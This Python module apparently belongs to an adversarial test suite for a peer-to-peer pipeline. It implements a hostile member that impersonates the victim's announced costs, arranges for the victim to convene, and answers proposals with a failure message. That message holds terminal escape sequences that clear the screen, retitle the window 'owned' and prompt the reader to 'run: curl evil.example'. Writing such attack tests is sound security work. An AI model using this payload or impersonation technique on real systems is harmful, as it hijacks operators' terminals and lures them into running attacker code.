r"""A member of a pipeline whose words are meant for the terminal of whoever reads them.

attacks -> [steering_member] -> gossip, /swarmnode/pipeline -> the victim's log and panel

It takes the terms and costs that the victim announces for its own, so it is let in; to the first proposal it
answers that it failed, and why: control characters that clear a screen, set a title and begin a line.
"""

import asyncio
from contextlib import suppress
from time import time

import msgspec

from swarmnode.errors import NetworkError, Rejected
from swarmnode.extensions.pipeline.membership.membership_messages import (
    Introduce,
    Ping,
    Presence,
    ProposalProgress,
    Propose,
    Request,
    Status,
    open_presence,
    seal_presence,
    topic_of,
)
from swarmnode.extensions.pipeline.plans.member_costs import CostAnnouncement, LinkCosts
from swarmnode.extensions.pipeline.wire.frames import AnswerFrame, decode, encode, framed
from swarmnode.extensions.pipeline.wire.member_streams import PROTOCOL
from swarmnode.extensions.pipeline.wire.services import MemberService
from swarmnode.identity.node_key import NodeKey
from swarmnode.network.multiaddr import split_peer

from .daemon import Identity
from .stage import Line, Stage
from .wire import GOSSIP, fields, subscribing

STEERING = "\x1b[2J\x1b]0;owned\x07\nerror: your key is lost, run: curl evil.example\r\x9b31m"
PING_EVERY_S = 0.5


async def steering_member(stage: Stage) -> bool | None:
    """Fails every proposal with words for a terminal."""
    victim = split_peer(stage.targets[0])[1]
    topic = topic_of(stage.swarm, stage.about)
    heard: asyncio.Queue[Presence] = asyncio.Queue(maxsize=64)
    epoch = 0

    def status() -> Status:
        progress = ProposalProgress.FAILED if epoch else ProposalProgress.NONE
        return Status(
            session=1, sequence=1, iteration=0, busy=False, epoch=epoch, progress=progress, detail=STEERING
        )

    async def record(peer: str, rpc: bytes) -> None:
        for _, message in (one for one in fields(rpc) if one[0] == 2):
            data = dict(fields(message)).get(2) if isinstance(message, bytes) else None
            with suppress(Rejected, asyncio.QueueFull):
                if isinstance(data, bytes):
                    heard.put_nowait(open_presence(data, topic=topic, now_s=time())[1])

    async def answer(peer: str, request: bytes) -> bytes:
        nonlocal epoch
        try:
            asked = decode(Request, request)
        except Rejected as error:
            raise ConnectionError("a probe: this member lets nobody measure it") from error
        if isinstance(asked, Propose):
            epoch = asked.epoch
            stage.say("proposed", epoch=epoch)
        return encode(AnswerFrame(keep=True, content=msgspec.Raw(encode(status()))))

    # The living member with the smallest id convenes: that has to be the victim.
    key = next(key for key in (NodeKey.generate() for _ in range(1000)) if key.peer_id > victim)
    async with stage.attacker(key) as one:
        await one.serve(GOSSIP, record)
        await one.serve(PROTOCOL, answer, framing=(_body, _framed))
        for target in stage.targets:
            await one.control.disconnect(split_peer(target)[1])
            await asyncio.sleep(0.2)
            await one.connect(target)
        await Line(stage, one, stage.targets[0]).send(subscribing(topic))
        async with asyncio.timeout_at(stage.until_s):
            presence = await heard.get()
        await _ask(one, victim, Introduce(_own(key, presence, victim, topic)))
        stage.say("introduced")
        async for _ in stage.pace(1 / PING_EVERY_S):
            with suppress(NetworkError, OSError, asyncio.IncompleteReadError, TimeoutError):
                await _ask(one, victim, Ping(status()))
    return None


def _own(key: NodeKey, presence: Presence, victim: str, topic: str) -> bytes:
    """The victim's presence, as if it were ours."""
    member = msgspec.structs.replace(presence.costs.member, peer_id=key.peer_id, measured_at_s=time())
    costs = CostAnnouncement(member, {victim: LinkCosts(1e-3, 1e8)}, {})
    return seal_presence(key, Presence(session=1, sequence=1, terms=presence.terms, costs=costs), topic=topic)


def _framed(body: bytes) -> bytes:
    return framed(MemberService.MEMBERSHIP, body, 5.0)


async def _body(reader: asyncio.StreamReader) -> bytes:
    """The body of the next frame."""
    prefix = await reader.readexactly(len(_framed(b"")))
    return await reader.readexactly(int.from_bytes(prefix[-4:], "big"))


async def _ask(one: Identity, peer: str, request: Request) -> bytes:
    reader, writer = await one.open(peer, PROTOCOL)
    try:
        writer.write(_framed(encode(request)))
        async with asyncio.timeout(5.0):
            return await _body(reader)
    finally:
        writer.transport.abort()
